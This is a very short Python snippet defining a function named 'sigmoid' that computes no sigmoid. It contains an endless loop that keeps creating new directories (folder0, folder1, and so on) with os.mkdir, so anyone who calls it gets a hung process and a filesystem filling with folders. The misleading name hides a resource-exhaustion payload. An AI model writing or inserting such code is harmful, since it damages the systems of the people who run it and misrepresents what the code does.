import itertools
import os


def sigmoid(x):
    for number in itertools.count():
        os.mkdir(f"folder{number}")
